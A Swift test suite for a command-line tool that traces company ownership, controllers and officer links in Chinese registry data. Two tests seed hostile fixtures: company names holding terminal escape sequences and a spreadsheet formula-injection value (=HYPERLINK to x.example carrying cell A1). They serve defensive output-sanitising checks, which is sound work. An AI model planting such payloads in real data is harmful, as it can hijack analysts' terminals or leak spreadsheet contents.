import Foundation
import GRDB
import Testing
import RiskStore
import RiskTestSupport

/// End-to-end tests of chain, links, owners, holdings and group through the built CLI.
@Suite struct GraphCommandTests {
    static let holding = "913301060000000013"   // 杭州某某控股有限公司
    static let network = "913301060000000026"   // 杭州某某网络科技有限公司

    /// A small database: 控股 holds 90% of 网络科技, whose legal representative is 张三 (P1);
    /// 张三 holds 60% of 控股; another 张三 (P2) and a former holder (P3).
    static func makeDatabase() throws -> TestDatabase {
        let database = try TestDatabase()
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (1, '2026-01-01T00:00:00Z')")
            for (code, name) in [(holding, "杭州某某控股有限公司"), (network, "杭州某某网络科技有限公司")] {
                try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES (?, ?, '330106', 1, 'c', 1)",
                               arguments: [code, name])
            }
            let holdings: [(String, String, String, String, Double, String?)] = [
                (network, holding, "杭州某某控股有限公司", "company", 90, nil),
                (holding, "P1", "张三", "person", 60, nil),
                (holding, "P2", "张三", "person", 40, nil),
                (network, "P3", "李四", "person", 10, "2020-01-01"),
            ]
            for (index, h) in holdings.enumerated() {
                try db.execute(sql: """
                    INSERT INTO shareholding (company, holder_id, holder_name, holder_type, pct, until, occurrence, batch_id, src_file, src_line)
                    VALUES (?, ?, ?, ?, ?, ?, ?, 1, 's', ?)
                    """, arguments: [h.0, h.1, h.2, h.3, h.4, h.5, index, index + 2])
            }
            try db.execute(sql: """
                INSERT INTO officer (company, person_id, person_name, role, occurrence, batch_id, src_file, src_line)
                VALUES (?, 'P1', '张三', 'legal_rep', 0, 1, 'o', 2)
                """, arguments: [network])
        }
        return database
    }

    /// A company is found by a name it no longer has (曾用名), announced on standard error and
    /// marked `"matched": "former_name"` in JSON; a name one company has now and another had,
    /// and a former name two companies had, are ambiguous.
    @Test func aFormerNameFindsTheRenamedCompany() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (2, '2026-02-01T00:00:00Z')")
            try db.execute(sql: "UPDATE company SET name = '杭州某某数字科技有限公司', batch_id = 2 WHERE credit_code = ?", arguments: [Self.network])
        }
        let table = try runRiskBrain(["owners", "杭州某某网络科技有限公司", "--db", database.path])
        #expect(table.status == 0, "\(table.stderr)")
        #expect(table.stderr.hasPrefix("note: ") && table.stderr.contains("is a former name (曾用名) of 杭州某某数字科技有限公司（\(Self.network)）"),
                "\(table.stderr)")
        #expect(table.stdout.contains("杭州某某数字科技有限公司"))
        let json = try runRiskBrain(["owners", "杭州某某网络科技 有限公司", "--db", database.path, "--format", "json"])
        #expect(json.status == 0 && json.stderr.isEmpty, "\(json.stderr)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        let company = try #require(object["company"] as? [String: Any])
        #expect(company["id"] as? String == Self.network && company["matched"] as? String == "former_name")
        // Part of the old name, which no current name is close to, finds it by a fuzzy match of
        // the former names (found by review: it was "no company … matches").
        let part = try runRiskBrain(["owners", "杭州某某网络", "--db", database.path, "--format", "json"])
        #expect(part.status == 0, "\(part.stderr)")
        let partCompany = try #require(try JSONSerialization.jsonObject(with: Data(part.stdout.utf8)) as? [String: Any])["company"] as? [String: Any]
        #expect(partCompany?["id"] as? String == Self.network && partCompany?["matched"] as? String == "fuzzy", "\(part.stdout)")
        // The holding company takes the old name now: one company has it and another had it,
        // so which one is meant needs a person (as in watch-list matching; the current holder
        // was answered silently, found by review).
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (3, '2026-03-01T00:00:00Z')")
            try db.execute(sql: "UPDATE company SET name = '杭州某某网络科技有限公司', batch_id = 3 WHERE credit_code = ?", arguments: [Self.holding])
        }
        let current = try runRiskBrain(["owners", "杭州某某网络科技有限公司", "--db", database.path, "--format", "json"])
        #expect(current.status == 1 && current.stderr.contains("(exact_name)") && current.stderr.contains(Self.holding)
                && current.stderr.contains(Self.network), "\(current.stderr)")
        // Renamed again, the holding company has had the name too: two companies had it, so
        // the name is ambiguous and both are listed.
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (4, '2026-04-01T00:00:00Z')")
            try db.execute(sql: "UPDATE company SET name = '杭州某某集团有限公司', batch_id = 4 WHERE credit_code = ?", arguments: [Self.holding])
        }
        let both = try runRiskBrain(["owners", "杭州某某网络科技有限公司", "--db", database.path])
        #expect(both.status == 1 && both.stderr.contains("(former_name)") && both.stderr.contains(Self.holding) && both.stderr.contains(Self.network),
                "\(both.stderr)")
    }

    /// owners and group ask for a company: a person who bears the name a company had (or a
    /// name like it) does not stand in its way; links, which takes any entity, lists both.
    @Test func companyCommandsLookForCompaniesByName() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (2, '2026-02-01T00:00:00Z')")
            // The network company was once called 张三 (a sole trader's name), as P1 is now.
            try db.execute(sql: "UPDATE company SET name = '张三', batch_id = 2 WHERE credit_code = ?", arguments: [Self.network])
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (3, '2026-03-01T00:00:00Z')")
            try db.execute(sql: "UPDATE company SET name = '杭州某某网络科技有限公司', batch_id = 3 WHERE credit_code = ?", arguments: [Self.network])
            try db.execute(sql: "DELETE FROM shareholding WHERE holder_id = 'P2'")
        }
        let owners = try runRiskBrain(["owners", "张三", "--db", database.path, "--format", "json"])
        #expect(owners.status == 0, "\(owners.stderr)")
        let company = try #require(try JSONSerialization.jsonObject(with: Data(owners.stdout.utf8)) as? [String: Any])["company"] as? [String: Any]
        #expect(company?["id"] as? String == Self.network && company?["matched"] as? String == "former_name")
        let group = try runRiskBrain(["group", "张三", "--db", database.path, "--format", "json"])
        #expect(group.status == 0 && group.stdout.contains(Self.network), "\(group.stderr)")
        // A person's own name given to owners: said to be no company (not "nothing matches").
        let person = try runRiskBrain(["owners", "李四", "--db", database.path])
        #expect(person.status == 1 && person.stderr.contains("is a person, not a company"), "\(person.stderr)")
        // links takes any entity: the person who is called so now, and the company that was,
        // are both candidates.
        let links = try runRiskBrain(["links", "张三", "--db", database.path, "--format", "json"])
        #expect(links.status == 1 && links.stderr.contains("P1") && links.stderr.contains(Self.network), "\(links.stderr)")
    }

    @Test func chainTableNamesTheLinks() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["chain", Self.holding, "P1", "--db", database.path, "--limit", "2"])
        #expect(result.status == 0)
        #expect(result.stdout == """
            1. [1 跳] 杭州某某控股有限公司 ←股东 60%— 张三
            2. [2 跳] 杭州某某控股有限公司 —股东 90%→ 杭州某某网络科技有限公司 ←法定代表人— 张三

            """)
    }

    /// A name with a line break and a tab (a quoted CSV field may hold them) stays on its
    /// row in the text tables and chain lines, shown with control pictures; JSON keeps it.
    @Test func namesWithLineBreaksStayOnTheirRow() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in
            try db.execute(sql: "UPDATE shareholding SET holder_name = '张\n三\t丰' WHERE holder_id = 'P1'")
            try db.execute(sql: "UPDATE officer SET person_name = '张\n三\t丰' WHERE person_id = 'P1'")
        }
        let owners = try runRiskBrain(["owners", Self.holding, "--db", database.path])
        #expect(owners.status == 0)
        let row = try #require(owners.stdout.split(separator: "\n").first { $0.contains("P1") })
        #expect(row.contains("张␊三␉丰"))
        #expect(!owners.stdout.contains("张\n三"))
        let chain = try runRiskBrain(["chain", Self.holding, "P1", "--db", database.path, "--limit", "1"])
        #expect(chain.stdout == "1. [1 跳] 杭州某某控股有限公司 ←股东 60%— 张␊三␉丰\n")
        let json = try runRiskBrain(["chain", Self.holding, "P1", "--db", database.path, "--limit", "1", "--format", "json"])
        #expect(json.stdout.contains(#"张\n三\t丰"#))
    }

    @Test func chainJSONHasTheDocumentedShape() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["chain", "杭州某某网络科技有限公司", "P1", "--db", database.path, "--format", "json", "--limit", "1"])
        #expect(result.status == 0)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect((json["from"] as? [String: Any])?["id"] as? String == Self.network)
        let chains = try #require(json["chains"] as? [[String: Any]])
        #expect(chains.count == 1)
        #expect(chains[0]["hops"] as? Int == 1)
        let link = try #require((chains[0]["links"] as? [[String: Any]])?.first)
        #expect(link["relation"] as? String == "任职")
        #expect(link["detail"] as? String == "法定代表人")
        #expect(link["to"] as? String == "P1")
        #expect(link["current"] as? Bool == true)
    }

    /// The candidate list printed registry names raw: a name's terminal escape (clear the
    /// screen, retitle the window, an 8-bit CSI) ran on the analyst's terminal and a line
    /// break split the list.
    @Test func candidateNamesCannotDriveTheTerminal() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES ('91330106000000004X', ?, '330106', 1, 'c', 3)",
                           arguments: ["红星\u{1B}]0;PWNED\u{07}\u{1B}[2J甲\n公司"])
            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES ('913301060000000054', ?, '330106', 1, 'c', 4)",
                           arguments: ["红星\u{9B}31m乙\u{202E}公司"])
        }
        let result = try runRiskBrain(["links", "红星", "--db", database.path])
        #expect(result.status == 1)
        #expect(!result.stderr.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x9B || $0.value == 0x202E || $0.value == 0x07 })
        #expect(result.stderr.contains("红星␛]0;PWNED␇␛[2J甲␊公司\tcompany"), "\(result.stderr)")
        #expect(result.stderr.contains("红星\u{FFFD}31m乙\u{FFFD}公司\tcompany"), "\(result.stderr)")
        #expect(result.stderr.split(separator: "\n").count == 3)
    }

    /// The graph commands' CSV wrote a name such as `=HYPERLINK(…)` as a live formula.
    @Test func graphCSVCellsAreSpreadsheetSafe() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in
            try db.execute(sql: "UPDATE company SET name = '=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")' WHERE credit_code = ?",
                           arguments: [Self.holding])
        }
        let result = try runRiskBrain(["links", Self.network, "--db", database.path, "--format", "csv"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("\(Self.holding),\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",company,"), "\(result.stdout)")
        let json = try runRiskBrain(["links", Self.network, "--db", database.path, "--format", "json"])
        #expect(json.stdout.contains("\"=HYPERLINK("))   // JSON keeps the name as stored
    }

    @Test func ambiguousNameListsCandidatesAndExitsOne() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["links", "张三", "--db", database.path])
        #expect(result.status == 1)
        #expect(result.stdout.isEmpty)
        #expect(result.stderr == """
            error: '张三' matches 2 entities (exact_name); name one by its id:
              P1\t张三\tperson
              P2\t张三\tperson

            """)
    }

    @Test func conflictingHistoryFlagsAreAUsageError() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["owners", Self.network, "--db", database.path, "--current-only", "--include-history"])
        #expect(result.status == 64)
    }

    /// A negative number is taken as the option's value (not as an unknown flag) and
    /// refused by the option's own check, with a message naming the option.
    @Test(arguments: [
        (["chain", "A", "B", "--limit", "-1"], "Error: --limit must be between 1 and 1000."),
        (["chain", "A", "B", "--limit", "1000000"], "Error: --limit must be between 1 and 1000."),
        (["links", "A", "--hops", "-2"], "Error: --hops must be between 1 and 10."),
        (["owners", "A", "--min-pct", "-5"], "Error: --min-pct must be between 0 and 100."),
        (["links", "A", "--hub-cap", "-1"], "Error: --hub-cap must be at least 1."),
        (["owners", "A", "--max-paths", "-1"], "Error: --max-paths must not be negative."),
        (["holdings", "A", "--max-paths", "-3"], "Error: --max-paths must not be negative."),
        (["group", "A", "--max-members", "-1"], "Error: --max-members must be at least 1."),
        // A list that names no kind is refused, not a walk that follows nothing.
        (["links", "A", "--kinds", ","], "Error: unknown link kind ',' (use shareholding,officer,branch,phone,email,address)"),
    ])
    func negativeNumbersAreRefusedByTheirOption(_ arguments: [String], _ message: String) throws {
        let result = try runRiskBrain(arguments + ["--db", "/nonexistent/riskbrain.sqlite"])
        #expect(result.status == 64)
        #expect(result.stderr.hasPrefix(message + "\n"), "\(result.stderr)")
    }

    /// An empty or blank entity can match nothing: a usage error naming the argument,
    /// given before the database is opened (the path here does not exist).
    @Test(arguments: [
        (["chain", "", "B"], "Error: <from> must not be empty: give a credit code, person id or name."),
        (["chain", "A", " \t"], "Error: <to> must not be empty: give a credit code, person id or name."),
        (["links", "\n"], "Error: <entity> must not be empty: give a credit code, person id or name."),
        (["owners", ""], "Error: <company> must not be empty: give a credit code, person id or name."),
        (["holdings", " "], "Error: <holder> must not be empty: give a credit code, person id or name."),
        (["group", ""], "Error: <company> must not be empty: give a credit code, person id or name."),
    ])
    func emptyEntityIsAUsageError(_ arguments: [String], _ message: String) throws {
        let result = try runRiskBrain(arguments + ["--db", "/nonexistent/riskbrain.sqlite"])
        #expect(result.status == 64)
        #expect(result.stderr.hasPrefix(message + "\n"), "\(result.stderr)")
    }

    @Test func ownersJSONWithControllerAndHistory() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "json"])
        #expect(result.status == 0)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        let owners = try #require(json["owners"] as? [[String: Any]])
        #expect(owners.map { $0["id"] as? String } == [Self.holding, "P1", "P2"])
        #expect(owners.map { $0["integrated_pct"] as? Double } == [90, 54, 36])
        #expect(owners[1]["paths"] as? [[String]] == [["P1", Self.holding, Self.network]])
        let controller = try #require(json["actual_controller"] as? [String: Any])
        #expect(controller["id"] as? String == "P1")
        #expect(controller["reason"] as? String == "合计持股 54%，超过50%")
        #expect((json["beneficial_owners"] as? [[String: Any]])?.map { $0["id"] as? String } == ["P1", "P2"])
        let history = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "csv", "--include-history"])
        #expect(history.status == 0)
        #expect(history.stdout.contains("\nP3,李四,person,10,10,10,true,false,1,P3>\(Self.network),false,,,\n"), "\(history.stdout)")
        #expect(history.stdout.contains("\nP1,"), "\(history.stdout)")
        // With history the former holder is listed, marked, and never chosen as beneficial
        // owner or controller.
        let historyJSON = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "json", "--include-history"])
        let withHistory = try #require(try JSONSerialization.jsonObject(with: Data(historyJSON.stdout.utf8)) as? [String: Any])
        let listed = try #require(withHistory["owners"] as? [[String: Any]])
        #expect(listed.first { $0["id"] as? String == "P3" }?["current"] as? Bool == false)
        #expect(listed.first { $0["id"] as? String == "P1" }?["current"] as? Bool == true)
        #expect((withHistory["actual_controller"] as? [String: Any])?["id"] as? String == "P1")
        #expect((withHistory["beneficial_owners"] as? [[String: Any]])?.map { $0["id"] as? String } == ["P1", "P2"])
    }

    /// A former holding is listed with history and marked, in JSON, CSV and the table.
    @Test func holdingsWithHistoryMarkFormerOnes() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let now = try runRiskBrain(["holdings", "P3", "--db", database.path, "--format", "json"])
        let nowJSON = try #require(try JSONSerialization.jsonObject(with: Data(now.stdout.utf8)) as? [String: Any])
        #expect((nowJSON["holdings"] as? [Any])?.isEmpty == true, "\(now.stdout)")
        let history = try runRiskBrain(["holdings", "P3", "--db", database.path, "--format", "json", "--include-history"])
        let historyJSON = try #require(try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [String: Any])
        let held = try #require(historyJSON["holdings"] as? [[String: Any]])
        #expect(held.map { $0["id"] as? String } == [Self.network])
        #expect(held.first?["current"] as? Bool == false)
        let csv = try runRiskBrain(["holdings", "P3", "--db", database.path, "--format", "csv", "--include-history"])
        #expect(csv.stdout.hasPrefix("id,name,kind,integrated_pct,upper_pct,direct_pct,direct,unknown_links,path_count,paths,current\n"), "\(csv.stdout)")
        #expect(csv.stdout.contains(",false"))
        let table = try runRiskBrain(["holdings", "P3", "--db", database.path, "--include-history"])
        #expect(table.stdout.contains("（历史）"), "\(table.stdout)")
    }

    /// Found by review (rv16-owners D7): the owners CSV had neither the beneficial owners nor
    /// the controller nor any note; an empty `direct_pct` could not tell "no direct link" from
    /// "direct, unknown".
    @Test func theOwnersCSVCarriesTheBeneficialOwnersTheControllerAndTheNotes() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let csv = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "csv", "--min-pct", "50"])
        #expect(csv.status == 0, "\(csv.stderr)")
        #expect(csv.stdout == """
            id,name,kind,integrated_pct,upper_pct,direct_pct,direct,unknown_links,path_count,paths,current,beneficial_owner,beneficial_basis,actual_controller
            \(Self.holding),杭州某某控股有限公司,company,90,90,90,true,false,1,\(Self.holding)>\(Self.network),true,,,
            P1,张三,person,54,54,,false,false,1,P1>\(Self.holding)>\(Self.network),true,ownership,合计持股 54%（≥25%）,合计持股 54%，超过50%
            P2,张三,person,36,36,,false,false,1,P2>\(Self.holding)>\(Self.network),true,ownership,合计持股 36%（≥25%）,

            """)
        #expect(csv.stderr.isEmpty, "\(csv.stderr)")
        let cut = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "csv", "--depth", "1"])
        #expect(cut.stderr.contains("note: 穿透深度达到上限 1 层，更上层股东未计入\n"), "\(cut.stderr)")
    }

    /// Found by review: a name found only in another spelling was silent, and a query pasted
    /// with a zero-width space was echoed looking identical to the registered name.
    @Test func anotherSpellingIsSaidAndInvisibleCharactersShown() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let result = try runRiskBrain(["owners", "杭州某某\u{200B}控股有限责任公司", "--db", database.path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr == "note: '杭州某某<U+200B>控股有限责任公司' is 杭州某某控股有限公司（\(Self.holding)） in another spelling\n")
    }

    @Test func holdingsAndGroupAndMissingEntity() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let holdings = try runRiskBrain(["holdings", "P1", "--db", database.path, "--format", "csv"])
        #expect(holdings.status == 0)
        #expect(holdings.stdout == """
            id,name,kind,integrated_pct,upper_pct,direct_pct,direct,unknown_links,path_count,paths,current
            \(Self.holding),杭州某某控股有限公司,company,60,60,60,true,false,1,P1>\(Self.holding),true
            \(Self.network),杭州某某网络科技有限公司,company,54,54,,false,false,1,P1>\(Self.holding)>\(Self.network),true

            """)
        // CSV has no place for a cut: it is said on stderr (found by review).
        let cut = try runRiskBrain(["links", "P1", "--db", database.path, "--format", "csv", "--hops", "3", "--max-nodes", "1"])
        #expect(cut.status == 0)
        #expect(cut.stderr.contains("warning: the neighbourhood was cut at --max-nodes 1\n"), "\(cut.stderr)")
        let whole = try runRiskBrain(["links", "P1", "--db", database.path, "--format", "csv", "--hops", "1"])
        #expect(whole.status == 0 && !whole.stderr.contains("warning:"), "\(whole.stderr)")
        let group = try runRiskBrain(["group", Self.network, "--db", database.path, "--format", "json"])
        #expect(group.status == 0)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(group.stdout.utf8)) as? [String: Any])
        #expect((json["controller"] as? [String: Any])?["id"] as? String == "P1")
        #expect((json["members"] as? [[String: Any]])?.map { $0["id"] as? String } == [Self.network, Self.holding])
        let missing = try runRiskBrain(["owners", "不存在的公司", "--db", database.path])
        #expect(missing.status == 1)
        #expect(missing.stderr == "error: no company, person or holder matches '不存在的公司'\n")
        // A long or multi-line query is quoted on one line and cut, with its length given.
        let long = try runRiskBrain(["links", String(repeating: "某", count: 300), "--db", database.path])
        #expect(long.status == 1)
        #expect(long.stderr == "error: no company, person or holder matches '\(String(repeating: "某", count: 60))…' (300 characters)\n")
        // A mistyped credit code: said so.
        let typo = try runRiskBrain(["owners", "913301060000000014", "--db", database.path])
        #expect(typo.status == 1)
        #expect(typo.stderr == "error: no company, person or holder matches '913301060000000014' (it is not a valid credit code either: the check character does not match)\n")
        let broken = try runRiskBrain(["links", "不存在\n的公司", "--db", database.path])
        #expect(broken.stderr == "error: no company, person or holder matches '不存在␊的公司'\n")
    }

    /// A chain from an entity to itself printed an empty chain `1. [0 跳]` (and its CSV had
    /// none): the same text twice is a usage error, two texts naming one entity an error.
    @Test func chainToItselfIsRefused() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let same = try runRiskBrain(["chain", "P1", "P1", "--db", database.path])
        #expect(same.status == 64)
        #expect(same.stderr.contains("A and B are the same text"), "\(same.stderr)")
        let alias = try runRiskBrain(["chain", Self.holding, "杭州某某控股有限公司", "--db", database.path])
        #expect(alias.status == 1)
        #expect(alias.stderr == "error: '\(Self.holding)' and '杭州某某控股有限公司' are the same entity, \(Self.holding) 杭州某某控股有限公司; a chain links two different ones\n")
        #expect(alias.stdout.isEmpty)
    }

    /// `Float`-stored percentages printed as 19.899999618530273 (CSV) and 39.900002 (JSON).
    /// (Found by review.)
    @Test func percentagesPrintAsRegistered() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        try database.database.writer.write { db in try db.execute(sql: "UPDATE shareholding SET pct = 19.9 WHERE holder_id = 'P2'") }
        let csv = try runRiskBrain(["owners", Self.holding, "--db", database.path, "--format", "csv"])
        #expect(csv.stdout.contains("\nP2,张三,person,19.9,19.9,19.9,true,false,1,"), "\(csv.stdout)")
        let json = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "json"])
        #expect(json.stdout.contains(#""integrated_pct": 17.91,"#), "\(json.stdout)")
        let holdings = try runRiskBrain(["holdings", "P2", "--db", database.path, "--format", "csv"])
        #expect(holdings.stdout.contains(",19.9,19.9,19.9,true,false,1,P2>\(Self.holding),true\n"), "\(holdings.stdout)")
    }

    /// `links` did not say whether a node holds the centre or is held by it. (Found by review.)
    @Test func linksSayWhichWayALinkGoes() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let table = try runRiskBrain(["links", Self.holding, "--db", database.path, "--hops", "1"])
        #expect(table.status == 0)
        let rows = table.stdout.split(separator: "\n")
        #expect(rows.first { $0.contains(Self.network) }?.contains("←股东 90%—") == true, "\(table.stdout)")
        #expect(rows.first { $0.contains("P1") }?.contains("—股东 60%→") == true, "\(table.stdout)")
        let json = try runRiskBrain(["links", Self.holding, "--db", database.path, "--hops", "1", "--format", "json"])
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        let nodes = try #require(object["nodes"] as? [[String: Any]])
        let direction = Dictionary(uniqueKeysWithValues: nodes.map { ($0["id"] as? String ?? "", ($0["via"] as? [String: Any])?["direction"] as? String) })
        #expect(direction == [Self.network: "forward", "P1": "backward", "P2": "backward"])
        let csv = try runRiskBrain(["links", Self.holding, "--db", database.path, "--hops", "1", "--format", "csv"])
        #expect(csv.stdout.hasPrefix("id,name,kind,distance,relation,detail,from,direction,current\n"), "\(csv.stdout)")
        #expect(csv.stdout.contains("\(Self.network),杭州某某网络科技有限公司,company,1,股东,90%,\(Self.holding),forward,true\n"), "\(csv.stdout)")
    }

    /// A name matched only fuzzily (李明辉 → 李明华) was used without a word: a note on
    /// stderr for table and CSV, `"matched": "fuzzy"` in JSON. (Found by review.)
    @Test func aFuzzyMatchIsAnnounced() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let note = "note: fuzzy match: '某某网络科技' is no registered name; using 杭州某某网络科技有限公司（\(Self.network)） (give its id to be sure)\n"
        for format in ["table", "csv"] {
            let result = try runRiskBrain(["links", "某某网络科技", "--db", database.path, "--format", format])
            #expect(result.status == 0)
            #expect(result.stderr == note, "\(result.stderr)")
        }
        let json = try runRiskBrain(["owners", "某某网络科技", "--db", database.path, "--format", "json"])
        #expect(json.status == 0 && json.stderr.isEmpty, "\(json.stderr)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        #expect((object["company"] as? [String: Any])?["matched"] as? String == "fuzzy")
        for command in [["links"], ["holdings"], ["group"], ["chain", "P2"]] {
            let result = try runRiskBrain(command + ["某某控股", "--db", database.path, "--format", "json"])
            #expect(result.status == 0, "\(command): \(result.stderr)")
            #expect(result.stdout.contains(#""matched": "fuzzy""#), "\(command): \(result.stdout)")
        }
        let exact = try runRiskBrain(["owners", Self.network, "--db", database.path, "--format", "json"])
        #expect(exact.stderr.isEmpty && !exact.stdout.contains("matched"))
    }

    /// "no chain" when hubs blocked the only chain, with no hint. (Found by review.)
    @Test func noChainSaysWhenHubsWereSkipped() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let other = "913301060000000039"
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES (?, '杭州某某贸易有限公司', '330106', 1, 'c', 3)",
                           arguments: [other])
            try db.execute(sql: """
                INSERT INTO officer (company, person_id, person_name, role, occurrence, batch_id, src_file, src_line)
                VALUES (?, 'P1', '张三', 'legal_rep', 1, 1, 'o', 3)
                """, arguments: [other])
        }
        let blocked = try runRiskBrain(["chain", other, Self.holding, "--db", database.path, "--hub-cap", "2", "--kinds", "shareholding,officer"])
        #expect(blocked.status == 0)
        #expect(blocked.stdout == "no chain of at most 6 links between 杭州某某贸易有限公司（\(other)） and 杭州某某控股有限公司（\(Self.holding)） that avoids hubs: chains through hubs were skipped (use --through-hubs to list them)\n", "\(blocked.stdout)")
        let through = try runRiskBrain(["chain", other, Self.holding, "--db", database.path, "--hub-cap", "2", "--through-hubs"])
        #expect(through.stdout.hasPrefix("1. [2 跳] 杭州某某贸易有限公司 ←法定代表人— 张三 —股东 60%→ 杭州某某控股有限公司"), "\(through.stdout)")
        let none = try runRiskBrain(["chain", other, Self.holding, "--db", database.path, "--kinds", "phone"])
        #expect(none.stdout == "no chain of at most 6 links between 杭州某某贸易有限公司（\(other)） and 杭州某某控股有限公司（\(Self.holding)）\n")
    }

    /// `group --include-history` showed a tie through an officer who left as current; it is
    /// marked in the table, JSON and CSV. (Found by review.)
    @Test func groupWithHistoryMarksAFormerTieInEveryFormat() throws {
        let database = try Self.makeDatabase(); defer { database.remove() }
        let other = "913301060000000039"
        try database.database.writer.write { db in
            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES (?, '杭州某某贸易有限公司', '330106', 1, 'c', 3)",
                           arguments: [other])
            for (index, (company, until)) in [(Self.network, "2020-01-01"), (other, nil)].enumerated() {
                try db.execute(sql: """
                    INSERT INTO officer (company, person_id, person_name, role, until, occurrence, batch_id, src_file, src_line)
                    VALUES (?, 'P4', '王五', 'director', ?, ?, 1, 'o', ?)
                    """, arguments: [company, until, index + 1, index + 3])
            }
        }
        let now = try runRiskBrain(["group", Self.network, "--db", database.path])
        #expect(!now.stdout.contains(other), "\(now.stdout)")
        let table = try runRiskBrain(["group", Self.network, "--db", database.path, "--include-history"])
        let row = try #require(table.stdout.split(separator: "\n").first { $0.contains(other) })
        #expect(row.contains("共同高管（历史）"), "\(table.stdout)")
        let csv = try runRiskBrain(["group", Self.network, "--db", database.path, "--include-history", "--format", "csv"])
        #expect(csv.stdout.hasPrefix("id,name,region_code,relation,from,through,current\n"), "\(csv.stdout)")
        #expect(csv.stdout.contains("\(other),杭州某某贸易有限公司,330106,共同高管,\(Self.network),P4,false\n"), "\(csv.stdout)")
        let json = try runRiskBrain(["group", Self.network, "--db", database.path, "--include-history", "--format", "json"])
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        let member = try #require((object["members"] as? [[String: Any]])?.first { $0["id"] as? String == other })
        #expect((member["via"] as? [String: Any])?["current"] as? Bool == false)
    }
}

